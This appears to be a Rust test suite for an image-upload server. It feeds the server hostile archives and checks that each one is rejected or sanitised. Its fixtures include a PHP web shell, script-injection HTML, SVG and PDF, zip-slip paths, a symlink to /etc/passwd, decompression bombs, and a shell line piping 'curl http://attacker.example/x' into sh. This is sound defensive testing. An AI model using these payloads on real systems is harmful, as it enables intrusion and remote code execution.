//! The bad-input catalogue (tests/bad_inputs/README.md) end to end, against
//! a real `picsift serve`: each bad input gets its verdict or its HTTP
//! problem, and after each upload nothing of it is stored, nothing is left
//! in staging, the server still answers, and the good entry of the same
//! archive is accepted.
//!
//! Many cases share one upload: one server per section, one archive per
//! kind of trouble, each archive holding a good JPEG as well.

mod common;

use common::{Server, files_under, line, sha256_hex};
use picsift_tests::{
    Frame, ZipBuilder, crafted_jpeg, crc32, declares_dimensions, jpeg, overlapping_entries, png,
    tiny_entries, truncated, truncated_central_directory, with_declared_size, with_duplicate_name,
    with_icc_profile, with_metadata, with_method, with_segment, with_wrong_crc, with_zip_appended,
    with_zip64_fields,
};
use serde_json::Value;
use std::time::{Duration, Instant};
use zip::CompressionMethod;

/// What an entry must get.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Want {
    Accepted,
    Rejected(&'static str),
}

use Want::{Accepted, Rejected};

/// Files under `DATA/blobs/images`: one per stored image.
fn stored_images(server: &Server) -> usize {
    files_under(&server.data.join("blobs/images")).len()
}

/// Waits (10 s at most) until neither staged uploads nor half-written blobs
/// are left: a finished batch deletes its staged zip just after it
/// completes, a refused upload before it is answered.
async fn assert_nothing_staged(server: &Server) {
    let start = Instant::now();
    loop {
        let left: Vec<_> = ["blobs/staging", "blobs/.tmp"]
            .iter()
            .flat_map(|d| files_under(&server.data.join(d)))
            .collect();
        if left.is_empty() {
            return;
        }
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "left in staging: {left:?}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// After an upload: nothing staged, exactly `stored` images stored, and
/// the server alive.
async fn assert_clean(server: &Server, stored: usize, what: &str) {
    assert_nothing_staged(server).await;
    assert_eq!(
        stored_images(server),
        stored,
        "{what}: stored images: {:?}",
        files_under(&server.data.join("blobs/images"))
    );
    let live = reqwest::get(server.url("/livez"))
        .await
        .expect("GET /livez");
    assert_eq!(live.status(), 200, "{what}: /livez");
}

/// Uploads `zip`, waits for its batch and checks that every entry got
/// exactly the verdict in `want` (and no other entry one). Returns the report.
async fn check_batch(server: &Server, zip: Vec<u8>, want: &[(&str, Want)]) -> Vec<Value> {
    let before = stored_images(server);
    let id = server.upload_ok(zip).await;
    let done = server.wait_done(&id).await;
    assert_eq!(done["phase"], "completed", "{done}");
    let report = server.report(&id).await;
    let mut names: Vec<&str> = report
        .iter()
        .map(|l| l["entry"].as_str().unwrap())
        .collect();
    let mut wanted: Vec<&str> = want.iter().map(|(n, _)| *n).collect();
    names.sort();
    wanted.sort();
    assert_eq!(names, wanted, "one verdict per entry");
    for (entry, w) in want {
        let l = line(&report, entry);
        let got = (l["verdict"].as_str(), l["reason"].as_str());
        match w {
            Accepted => assert_eq!(got, (Some("accepted"), None), "{entry:?}: {l}"),
            Rejected(reason) => {
                assert_eq!(got, (Some("rejected"), Some(*reason)), "{entry:?}: {l}");
                assert!(
                    l["detail"].as_str().is_some_and(|d| !d.is_empty()),
                    "{entry:?}: {l}"
                );
            }
        }
    }
    let accepted = want.iter().filter(|(_, w)| *w == Accepted).count();
    assert_clean(server, before + accepted, &format!("batch {id}")).await;
    report
}

/// The stored bytes of an accepted entry, checked against its id.
async fn stored_bytes(server: &Server, report: &[Value], entry: &str) -> Vec<u8> {
    let id = line(report, entry)["image_id"]
        .as_str()
        .unwrap()
        .to_string();
    let r = server
        .client()
        .get(server.url(&format!("/v1/images/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{entry}");
    let bytes = r.bytes().await.unwrap().to_vec();
    assert_eq!(
        sha256_hex(&bytes),
        id,
        "{entry}: stored bytes hash to their id"
    );
    bytes
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// A small photo, distinct for every seed (no two entries are duplicates).
fn photo(seed: u64) -> Vec<u8> {
    jpeg(seed, 96, 64)
}

/// A gzip member holding `data` in one stored deflate block.
fn gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, 1];
    let len = data.len() as u16;
    out.extend_from_slice(&len.to_le_bytes());
    out.extend_from_slice(&(!len).to_le_bytes());
    out.extend_from_slice(data);
    out.extend_from_slice(&crc32(data).to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out
}

/// A tar archive holding one file.
fn tar(name: &str, data: &[u8]) -> Vec<u8> {
    let mut header = [0u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
    header[257..263].copy_from_slice(b"ustar\0");
    let mut out = header.to_vec();
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512 + 1024, 0);
    out
}

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
const PHP: &[u8] = b"<?php system($_GET['cmd']); ?>\n";
const HTML: &[u8] =
    b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n";
const SVG: &[u8] = b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>alert(1)</script><rect width=\"10\" height=\"10\"/></svg>\n";
const PDF: &[u8] = b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";
const SCRIPT: &[u8] = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n";
/// An AppleDouble header: what macOS's zip puts in `__MACOSX/._NAME`.
const APPLE_DOUBLE: &[u8] = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        \x00\x02\x00\x00\x00\x09\x00\x00\x00\x32\x00\x00\x0e\xb0";

#[tokio::test(flavor = "multi_thread")]
async fn refused_archives_answer_a_problem_and_leave_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &[]);
    let good = jpeg(1000, 320, 240);
    let with_good = |z: ZipBuilder| z.stored("good.jpg", &good).finish();
    let normal = with_good(ZipBuilder::new().stored("other.jpg", &photo(1001)));
    let three = with_good(
        ZipBuilder::new()
            .stored("a.jpg", &photo(1002))
            .stored("b.jpg", &photo(1003)),
    );
    let cd_start = three.len() - 22 - directory_len(&three);
    // What, body, content type, status, problem type, words of its detail.
    type Case = (
        &'static str,
        Vec<u8>,
        &'static str,
        u16,
        &'static str,
        &'static str,
    );
    let cases: Vec<Case> = vec![
        // A non-zip body.
        (
            "GIF body",
            b"GIF89a\x01\0\x01\0".to_vec(),
            "application/zip",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "HTML body",
            HTML.to_vec(),
            "application/zip",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "PDF body",
            PDF.to_vec(),
            "application/zip",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "ELF body",
            ELF.to_vec(),
            "application/octet-stream",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "gzip body",
            gzip(&good),
            "application/zip",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "tar body",
            tar("good.jpg", &good),
            "application/zip",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "three bytes",
            b"PK\x03".to_vec(),
            "application/zip",
            400,
            "not-a-zip",
            "",
        ),
        (
            "a zip sent as HTML",
            normal.clone(),
            "text/html",
            415,
            "unsupported-media-type",
            "application/zip",
        ),
        // An empty archive, and one with only what is never an image.
        (
            "empty archive",
            ZipBuilder::new().finish(),
            "application/zip",
            400,
            "empty-archive",
            "no entries",
        ),
        (
            "only a folder and a resource fork",
            ZipBuilder::new()
                .dir("__MACOSX/")
                .stored("__MACOSX/._x.jpg", APPLE_DOUBLE)
                .finish(),
            "application/zip",
            400,
            "no-images",
            "2 entries",
        ),
        // Data before the archive.
        (
            "junk then zip",
            [b"junk".as_slice(), &normal].concat(),
            "application/zip",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "JPEG then zip",
            [good.as_slice(), &normal].concat(),
            "application/zip",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "ELF stub then zip (self-extractor)",
            [ELF, &normal].concat(),
            "application/zip",
            400,
            "not-a-zip",
            "not a zip",
        ),
        (
            "zip header then data then zip",
            [b"PK\x03\x04 a polyglot's first part ".as_slice(), &normal].concat(),
            "application/zip",
            400,
            "archive-offset",
            "something is prepended",
        ),
        // A truncated central directory.
        (
            "cut in the central directory",
            three[..cd_start + 60].to_vec(),
            "application/zip",
            400,
            "not-a-zip",
            "cannot be read",
        ),
        (
            "last central record cut, end record intact",
            truncated_central_directory(&three),
            "application/zip",
            400,
            "not-a-zip",
            "cannot be read",
        ),
        // Duplicate names.
        (
            "duplicate names",
            with_duplicate_name(&normal, "other.jpg"),
            "application/zip",
            400,
            "duplicate-names",
            "same name",
        ),
        // Too many entries: refused from the end record, before the
        // central directory is parsed.
        (
            "100000 tiny entries",
            tiny_entries(100_000).join(),
            "application/zip",
            413,
            "upload-too-large",
            "100000 entries; the policy allows 10000",
        ),
        (
            "10001 tiny entries",
            tiny_entries(10_001).join(),
            "application/zip",
            413,
            "upload-too-large",
            "10001 entries; the policy allows 10000",
        ),
        // Absurd Zip64 fields.
        (
            "Zip64 end record declaring 2^64-1 entries",
            picsift_tests::ZipParts::split(&normal).join_declaring(u64::MAX, true),
            "application/zip",
            413,
            "upload-too-large",
            "18446744073709551615 entries",
        ),
        (
            "Zip64 size of 2^62 bytes",
            with_zip64_fields(&normal, "other.jpg", Some(1 << 62), None, None),
            "application/zip",
            413,
            "upload-too-large",
            "maxTotalUncompressedBytes",
        ),
        (
            "Zip64 local header offset of 2^62",
            with_zip64_fields(&normal, "other.jpg", None, None, Some(1 << 62)),
            "application/zip",
            400,
            "not-a-zip",
            "",
        ),
    ];
    for (what, body, content_type, status, slug, detail) in cases {
        let r = server
            .client()
            .post(server.url("/v1/batches"))
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .unwrap_or_else(|e| panic!("{what}: {e}"));
        let got = r.status().as_u16();
        let content_type = r.headers()["content-type"].clone();
        let p: Value = r.json().await.unwrap_or(Value::Null);
        assert_eq!(got, status, "{what}: {p}");
        assert_eq!(content_type, "application/problem+json", "{what}");
        assert_eq!(
            p["type"],
            format!("https://picsift.io/problems/{slug}").as_str(),
            "{what}: {p}"
        );
        assert!(
            p["detail"].as_str().is_some_and(|d| d.contains(detail)),
            "{what}: {p}"
        );
        assert_clean(&server, 0, what).await;
    }
    // The server still takes a good upload.
    check_batch(
        &server,
        normal,
        &[("good.jpg", Accepted), ("other.jpg", Accepted)],
    )
    .await;
}

/// The central directory's size, read from the end record.
fn directory_len(zip: &[u8]) -> usize {
    let eocd = zip.len() - 22;
    u32::from_le_bytes(zip[eocd + 12..eocd + 16].try_into().unwrap()) as usize
}

#[tokio::test(flavor = "multi_thread")]
async fn unsafe_entries_are_rejected_one_by_one_and_the_good_one_is_stored() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &[]);
    let good = jpeg(2000, 320, 240);
    let long_ok = format!("{}.jpg", "a".repeat(1020));
    let too_long = format!("{}.jpg", "b".repeat(1021));
    let very_long = format!("{}.jpg", "c/".repeat(2000));
    // Zip-slip in every form: each entry is a valid, distinct photo, so
    // only its name can refuse it.
    let unsafe_names = [
        "../evil.jpg",
        "../../../../../../etc/cron.d/evil.jpg",
        "a/../../evil.jpg",
        "/etc/evil.jpg",
        "//server/share/evil.jpg",
        "C:\\Windows\\evil.jpg",
        "C:evil.jpg",
        "c:/evil.jpg",
        "..\\evil.jpg",
        "a\\..\\..\\evil.jpg",
        "\\\\server\\share\\evil.jpg",
        "\\evil.jpg",
        "nul\0.jpg",
        "evil.jpg\0.png",
        "\x1b[2J\x1b[Hclear.jpg",
        "new\nline.jpg",
        "carriage\rreturn.jpg",
        "tab\t.jpg",
        "delete\x7f.jpg",
        "next\u{85}line.jpg",
        too_long.as_str(),
        very_long.as_str(),
    ];
    let mut z = ZipBuilder::new().stored("good.jpg", &good);
    let mut want: Vec<(&str, Want)> = vec![("good.jpg", Accepted), (&long_ok, Accepted)];
    z = z.stored(&long_ok, &photo(2001));
    for (i, name) in unsafe_names.iter().enumerate() {
        z = z.stored(name, &photo(2100 + i as u64));
        want.push((name, Rejected("unsafe_name")));
    }
    let kernel = vec![0u8; 1 << 20];
    let fake_sevenzip = [b"7z\xBC\xAF\x27\x1C\0\x04".as_slice(), &[0u8; 64]].concat();
    let fake_rar = [b"Rar!\x1A\x07\x01\0".as_slice(), &[0u8; 64]].concat();
    let inner = ZipBuilder::new().stored("inner.jpg", &photo(2200)).finish();
    let zip = z
        // Symbolic links, to a file and to a folder.
        .symlink("link.jpg", "/etc/passwd")
        .symlink("up.jpg", "../../..")
        // Encrypted, stored and deflated.
        .encrypted("secret.jpg", &photo(2201))
        .encrypted("secret2.jpg", &photo(2202))
        // Compression methods other than stored and deflate (patched below).
        .stored("shrunk.jpg", &photo(2203))
        .stored("imploded.jpg", &photo(2204))
        .stored("bzip2.jpg", &photo(2205))
        .stored("lzma.jpg", &photo(2206))
        .stored("zstd.jpg", &photo(2207))
        .stored("xz.jpg", &photo(2208))
        .stored("ppmd.jpg", &photo(2209))
        // Nested archives, named as what they are and as images.
        .stored("inner.zip", &inner)
        .file("inner_deflated.jpg", &inner, CompressionMethod::Deflated)
        .stored("photo.jpg.gz", &gzip(&photo(2210)))
        .stored("gzipped.jpg", &gzip(&photo(2211)))
        .stored("bundle.jpg", &tar("x.jpg", &photo(2212)))
        .stored("archive.jpg", &fake_sevenzip)
        .stored("rar.jpg", &fake_rar)
        // macOS's resource forks.
        .dir("__MACOSX/")
        .stored("__MACOSX/._good.jpg", APPLE_DOUBLE)
        .stored("._photo.jpg", APPLE_DOUBLE)
        // A high-ratio entry: 1 MiB of zeros in about 1 KiB.
        .file("bomb.jpg", &kernel, CompressionMethod::Deflated)
        // Declared sizes that lie (patched below).
        .lying_size("fewer.jpg", &jpeg(2213, 320, 240))
        .file(
            "more.jpg",
            &jpeg(2214, 320, 240),
            CompressionMethod::Deflated,
        )
        .stored("stored_fewer.jpg", &photo(2215))
        .stored("stored_more.jpg", &photo(2216))
        .file("crc.jpg", &photo(2217), CompressionMethod::Deflated)
        .stored("stored_crc.jpg", &photo(2218))
        .finish();
    let mut zip = zip;
    for (entry, method) in [
        ("shrunk.jpg", 1),
        ("imploded.jpg", 6),
        ("bzip2.jpg", 12),
        ("lzma.jpg", 14),
        ("zstd.jpg", 93),
        ("xz.jpg", 95),
        ("ppmd.jpg", 98),
    ] {
        zip = with_method(&zip, entry, method);
    }
    let more = jpeg(2214, 320, 240).len() as u32 + 100;
    zip = with_declared_size(&zip, "more.jpg", more);
    zip = with_declared_size(&zip, "stored_fewer.jpg", photo(2215).len() as u32 - 100);
    zip = with_declared_size(&zip, "stored_more.jpg", photo(2216).len() as u32 + 100);
    zip = with_wrong_crc(&zip, "crc.jpg");
    zip = with_wrong_crc(&zip, "stored_crc.jpg");
    // (Overlapping entries refuse the whole upload: see
    // `overlapping_entries_are_refused`.)
    want.extend([
        ("link.jpg", Rejected("symlink")),
        ("up.jpg", Rejected("symlink")),
        ("secret.jpg", Rejected("encrypted")),
        ("secret2.jpg", Rejected("encrypted")),
        ("shrunk.jpg", Rejected("unsupported_compression")),
        ("imploded.jpg", Rejected("unsupported_compression")),
        ("bzip2.jpg", Rejected("unsupported_compression")),
        ("lzma.jpg", Rejected("unsupported_compression")),
        ("zstd.jpg", Rejected("unsupported_compression")),
        ("xz.jpg", Rejected("unsupported_compression")),
        ("ppmd.jpg", Rejected("unsupported_compression")),
        ("inner.zip", Rejected("nested_archive")),
        ("inner_deflated.jpg", Rejected("nested_archive")),
        ("photo.jpg.gz", Rejected("nested_archive")),
        ("gzipped.jpg", Rejected("nested_archive")),
        ("bundle.jpg", Rejected("nested_archive")),
        ("archive.jpg", Rejected("nested_archive")),
        ("rar.jpg", Rejected("nested_archive")),
        ("__MACOSX/", Rejected("directory_entry")),
        ("__MACOSX/._good.jpg", Rejected("not_an_image")),
        ("._photo.jpg", Rejected("not_an_image")),
        ("bomb.jpg", Rejected("compression_ratio")),
        ("fewer.jpg", Rejected("size_mismatch")),
        ("more.jpg", Rejected("size_mismatch")),
        ("stored_fewer.jpg", Rejected("size_mismatch")),
        ("stored_more.jpg", Rejected("size_mismatch")),
        ("crc.jpg", Rejected("size_mismatch")),
        ("stored_crc.jpg", Rejected("size_mismatch")),
    ]);
    check_batch(&server, zip, &want).await;
    // Nothing was ever written from an entry name.
    let outside = dir.path().parent().unwrap();
    for path in ["evil.jpg", "etc/evil.jpg", "etc/cron.d/evil.jpg"] {
        assert!(!outside.join(path).exists() && !dir.path().join(path).exists());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_image_content_gets_its_reason_and_nothing_of_it_is_stored() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &[]);
    let good = jpeg(3000, 320, 240);
    let exif_only_html = [b"\xFF\xD8\xFF\xE0".as_slice(), HTML].concat();
    let zip = ZipBuilder::new()
        .stored("good.jpg", &good)
        // Other files named .jpg.
        .stored("script.jpg", SCRIPT)
        .stored("page.jpg", HTML)
        .stored("shell.jpg", PHP)
        .stored("document.jpg", PDF)
        .stored("program.jpg", ELF)
        .stored("drawing.jpg", SVG)
        .stored("drawing.svg", SVG)
        .stored("animation.jpg", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;")
        .stored("screenshot.jpg", &png(3001, 32, 32))
        .stored("empty.jpg", b"")
        .stored("jpeg_magic_then_html.jpg", &exif_only_html)
        // Broken JPEGs.
        .stored("truncated.jpg", &truncated(&jpeg(3002, 320, 240)))
        .stored("with_zip.jpg", &with_zip_appended(&jpeg(3003, 320, 240)))
        .stored("with_php.jpg", &[jpeg(3004, 320, 240).as_slice(), PHP].concat())
        .stored("dimension_bomb.jpg", &declares_dimensions(65000, 65000))
        .stored("one_pixel.jpg", &jpeg(3005, 1, 1))
        // 1000 scans over 4096×4096 in 200 KB: refused at 500 scans.
        .stored(
            "scan_bomb.jpg",
            &crafted_jpeg(Frame::Progressive(1000), 4096, 4096, false, 3006),
        )
        .stored("12_bit.jpg", &crafted_jpeg(Frame::Extended12, 64, 48, false, 3007))
        .stored("lossless.jpg", &crafted_jpeg(Frame::Lossless, 64, 48, false, 3008))
        .finish();
    let report = check_batch(
        &server,
        zip,
        &[
            ("good.jpg", Accepted),
            ("script.jpg", Rejected("not_an_image")),
            ("page.jpg", Rejected("not_an_image")),
            ("shell.jpg", Rejected("not_an_image")),
            ("document.jpg", Rejected("not_an_image")),
            ("program.jpg", Rejected("not_an_image")),
            ("drawing.jpg", Rejected("not_an_image")),
            ("drawing.svg", Rejected("not_an_image")),
            ("animation.jpg", Rejected("format_not_allowed")),
            // A PNG under a .jpg name: the bytes decide, and PNG is allowed.
            ("screenshot.jpg", Accepted),
            ("empty.jpg", Rejected("not_an_image")),
            ("jpeg_magic_then_html.jpg", Rejected("truncated")),
            ("truncated.jpg", Rejected("truncated")),
            ("with_zip.jpg", Rejected("trailing_data")),
            ("with_php.jpg", Rejected("trailing_data")),
            ("dimension_bomb.jpg", Rejected("dimensions_too_large")),
            ("one_pixel.jpg", Rejected("blank")),
            ("scan_bomb.jpg", Rejected("decode_error")),
            ("12_bit.jpg", Rejected("decode_error")),
            ("lossless.jpg", Rejected("decode_error")),
        ],
    )
    .await;
    let detail = |entry: &str| line(&report, entry)["detail"].as_str().unwrap().to_string();
    assert!(detail("dimension_bomb.jpg").contains("65000×65000"));
    assert!(detail("scan_bomb.jpg").contains("more than 500 scans"));
    assert!(detail("12_bit.jpg").contains("precision 12"));
}

/// A TIFF block for an APP1 `Exif` segment.
fn exif(tiff: &[u8]) -> Vec<u8> {
    [b"Exif\0\0".as_slice(), tiff].concat()
}

#[tokio::test(flavor = "multi_thread")]
async fn images_with_metadata_and_odd_codings_are_accepted_and_stored_clean() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &[]);
    let good = jpeg(4000, 320, 240);
    // Payloads in COM and APPn segments, each marked to be looked for.
    let payloads: Vec<(&str, u8, Vec<u8>)> =
        vec![
        ("com.jpg", 0xFE, [PHP, b"PICSIFT-COM"].concat()),
        (
            "xmp.jpg",
            0xE1,
            b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><script>PICSIFT-XMP</script></x:xmpmeta>"
                .to_vec(),
        ),
        ("app1.jpg", 0xE1, b"PICSIFT-APP1 <?php echo 1; ?>".to_vec()),
        (
            "jfxx.jpg",
            0xE0,
            b"JFXX\0\x10PICSIFT-JFXX a JFIF extension thumbnail".to_vec(),
        ),
        (
            "iptc.jpg",
            0xED,
            b"Photoshop 3.0\08BIM\x04\x04\0\0\0\0\0\x10\x1c\x02\x78\0\x0cPICSIFT-IPTC".to_vec(),
        ),
        ("app2.jpg", 0xE2, b"FPXR\0PICSIFT-APP2".to_vec()),
        ("app14.jpg", 0xEE, b"NotAdobe PICSIFT-APP14".to_vec()),
        ("app15.jpg", 0xEF, HTML.iter().chain(b"PICSIFT-APP15").copied().collect()),
    ];
    // Malformed EXIF: the image is fine, its EXIF is junk; nothing of it is kept.
    let malformed: Vec<(&str, Vec<u8>)> = vec![
        ("exif_empty.jpg", exif(b"")),
        ("exif_bad_order.jpg", exif(b"XX\0\x2a\0\0\0\x08\0\0")),
        ("exif_ifd_far_away.jpg", exif(b"II\x2a\0\0\xff\xff\xff\0\0")),
        (
            "exif_ifd_count_overrun.jpg",
            exif(b"MM\0\x2a\0\0\0\x08\xff\xff\x01\x12\0\x03\0\0"),
        ),
        (
            "exif_orientation_9.jpg",
            exif(b"MM\0\x2a\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x09\0\0\0\0\0\0"),
        ),
        (
            "exif_orientation_as_ascii.jpg",
            exif(b"MM\0\x2a\0\0\0\x08\0\x01\x01\x12\0\x02\0\0\0\x02\0\x06\0\0\0\0\0\0"),
        ),
        ("exif_noise.jpg", exif(&[0xA5; 60_000])),
    ];
    let gps = with_metadata(&jpeg(4001, 320, 240), 1);
    // The largest ICC profile a JPEG can carry: 255 APP2 segments.
    let mut icc = vec![0u8; 255 * 65_519];
    let icc_len = icc.len() as u32;
    icc[..4].copy_from_slice(&icc_len.to_be_bytes());
    icc[36..40].copy_from_slice(b"acsp");
    let big_icc = with_icc_profile(&jpeg(4002, 320, 240), &icc);
    let arithmetic = include_bytes!("../bad_inputs/arithmetic.jpg");

    let mut z = ZipBuilder::new()
        .stored("good.jpg", &good)
        .stored("gps.jpg", &gps)
        .stored("big_icc.jpg", &big_icc)
        .stored("arithmetic.jpg", arithmetic)
        .stored(
            "cmyk.jpg",
            &crafted_jpeg(Frame::Baseline, 64, 48, true, 4003),
        )
        .stored(
            "crafted.jpg",
            &crafted_jpeg(Frame::Baseline, 64, 48, false, 4004),
        )
        .stored(
            "progressive.jpg",
            &crafted_jpeg(Frame::Progressive(3), 64, 48, false, 4005),
        );
    let mut want: Vec<(String, Want)> = [
        "good.jpg",
        "gps.jpg",
        "big_icc.jpg",
        "arithmetic.jpg",
        "cmyk.jpg",
        "crafted.jpg",
        "progressive.jpg",
    ]
    .iter()
    .map(|n| (n.to_string(), Accepted))
    .collect();
    for (i, (name, marker, body)) in payloads.iter().enumerate() {
        z = z.stored(
            name,
            &with_segment(&jpeg(4100 + i as u64, 320, 240), *marker, body),
        );
        want.push((name.to_string(), Accepted));
    }
    for (i, (name, body)) in malformed.iter().enumerate() {
        z = z.stored(
            name,
            &with_segment(&jpeg(4200 + i as u64, 320, 240), 0xE1, body),
        );
        want.push((name.to_string(), Accepted));
    }
    for o in 2..=8u16 {
        let name = format!("orientation_{o}.jpg");
        z = z.stored(
            &name,
            &with_metadata(&jpeg(4300 + u64::from(o), 320, 240), o),
        );
        want.push((name, Accepted));
    }
    let want_refs: Vec<(&str, Want)> = want.iter().map(|(n, w)| (n.as_str(), *w)).collect();
    let report = check_batch(&server, z.finish(), &want_refs).await;

    for (name, _, _) in &payloads {
        let stored = stored_bytes(&server, &report, name).await;
        assert!(
            !contains(&stored, b"PICSIFT-"),
            "{name}: the payload is stored"
        );
        assert!(!contains(&stored, b"<?php") && !contains(&stored, b"<script"));
    }
    let stored = stored_bytes(&server, &report, "gps.jpg").await;
    for needle in [b"Exif\0\0".as_slice(), b"GPS 51.5007N", b"Example Street"] {
        assert!(!contains(&stored, needle), "gps.jpg keeps {needle:?}");
    }
    let http = server.client();
    let metadata = |id: String| {
        let http = http.clone();
        let url = server.url(&format!("/v1/images/{id}/metadata"));
        async move {
            http.get(url)
                .send()
                .await
                .unwrap()
                .json::<Value>()
                .await
                .unwrap()
        }
    };
    let image_id = |name: &str| {
        line(&report, name)["image_id"]
            .as_str()
            .unwrap()
            .to_string()
    };
    for o in 2..=8u16 {
        let name = format!("orientation_{o}.jpg");
        let meta = metadata(image_id(&name)).await;
        assert_eq!(meta["orientation"], o, "{name}: {meta}");
        let stored = stored_bytes(&server, &report, &name).await;
        // The orientation stays, alone: the photo displays upright.
        let minimal = picsift_core::exif::orientation_only(o);
        assert!(contains(&stored, &minimal), "{name}");
        for needle in [b"GPS 51.5007N".as_slice(), b"Example Street", b"ACM"] {
            assert!(!contains(&stored, needle), "{name} keeps {needle:?}");
        }
    }
    for (name, _) in &malformed {
        let meta = metadata(image_id(name)).await;
        assert_eq!(meta["orientation"], Value::Null, "{name}: {meta}");
        let stored = stored_bytes(&server, &report, name).await;
        assert!(!contains(&stored, b"Exif\0\0"), "{name}");
    }
    let meta = metadata(image_id("cmyk.jpg")).await;
    assert_eq!(
        (meta["width"].as_u64(), meta["height"].as_u64()),
        (Some(64), Some(48))
    );
    // The stored profile is no larger than what came in.
    let stored = stored_bytes(&server, &report, "big_icc.jpg").await;
    assert!(stored.len() <= big_icc.len());
}

/// A payload that survives only if the segment carrying it is kept.
const SMUGGLED: &[u8] = b"PICSIFT-SMUGGLED <?php system($_GET['cmd']); ?>";

/// A JPEG carrying [`SMUGGLED`] as an ICC profile (APP2 `ICC_PROFILE`).
fn icc_smuggler(seed: u64) -> Vec<u8> {
    with_icc_profile(&jpeg(seed, 320, 240), SMUGGLED)
}

/// A JPEG carrying [`SMUGGLED`] after the fields of an Adobe APP14 segment.
fn adobe_smuggler(seed: u64) -> Vec<u8> {
    let body = [b"Adobe\0\x64\0\0\0\0\x01".as_slice(), SMUGGLED].concat();
    with_segment(&jpeg(seed, 320, 240), 0xEE, &body)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_policy_refuses_photos_over_its_pixel_budget_and_reencoding_disarms_payloads() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "max_pixels = 1000000\nsanitize = \"reencode\"\n").unwrap();
    let data = dir.path().join("data");
    let server = Server::start(&data, &["--policy", policy.to_str().unwrap()]);
    let zip = ZipBuilder::new()
        .stored("good.jpg", &jpeg(5000, 320, 240))
        // A real photo, 1.92 megapixels, over a budget of 1.
        .stored("big.jpg", &jpeg(5001, 1600, 1200))
        .stored("icc_payload.jpg", &icc_smuggler(5002))
        .stored("adobe_payload.jpg", &adobe_smuggler(5003))
        .stored("phone.jpg", &with_metadata(&jpeg(5004, 320, 240), 6))
        .stored(
            "cmyk.jpg",
            &crafted_jpeg(Frame::Baseline, 64, 48, true, 5005),
        )
        .finish();
    let report = check_batch(
        &server,
        zip,
        &[
            ("good.jpg", Accepted),
            ("big.jpg", Rejected("dimensions_too_large")),
            ("icc_payload.jpg", Accepted),
            ("adobe_payload.jpg", Accepted),
            ("phone.jpg", Accepted),
            ("cmyk.jpg", Rejected("uncheckable")),
        ],
    )
    .await;
    let detail = line(&report, "big.jpg")["detail"].as_str().unwrap();
    assert!(
        detail.contains("1600×1200") && detail.contains("1000000"),
        "{detail}"
    );
    for entry in ["icc_payload.jpg", "adobe_payload.jpg", "phone.jpg"] {
        let stored = stored_bytes(&server, &report, entry).await;
        for needle in [
            b"PICSIFT-".as_slice(),
            b"<?php",
            b"Exif\0\0",
            b"ICC_PROFILE",
            b"Adobe",
        ] {
            assert!(!contains(&stored, needle), "{entry} keeps {needle:?}");
        }
    }
    // Re-encoded upright: the phone photo's orientation 6 is applied.
    let id = line(&report, "phone.jpg")["image_id"].as_str().unwrap();
    let meta = server.get_json(&format!("/v1/images/{id}/metadata")).await;
    assert_eq!(
        (meta["width"].as_u64(), meta["height"].as_u64()),
        (Some(240), Some(320)),
        "{meta}"
    );
}

/// Sends a raw HTTP/1.1 request head and `body`, then waits (10 s at most)
/// for the answer; `None` when the server closed the connection without one.
async fn raw_exchange(
    server: &Server,
    head: &str,
    body: &[u8],
    close_after: bool,
) -> Option<String> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut tcp = tokio::net::TcpStream::connect(server.base.trim_start_matches("http://"))
        .await
        .unwrap();
    tcp.write_all(head.as_bytes()).await.unwrap();
    tcp.write_all(body).await.unwrap();
    if close_after {
        tcp.shutdown().await.unwrap();
    }
    let mut answer = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(10), tcp.read_to_end(&mut answer)).await;
    assert!(read.is_ok(), "the server neither answered nor hung up");
    (!answer.is_empty()).then(|| String::from_utf8_lossy(&answer).to_string())
}

/// Slow heads, stalled bodies and cut-off transfers: the transport gives up
/// on them, and nothing of the upload is left behind.
#[tokio::test(flavor = "multi_thread")]
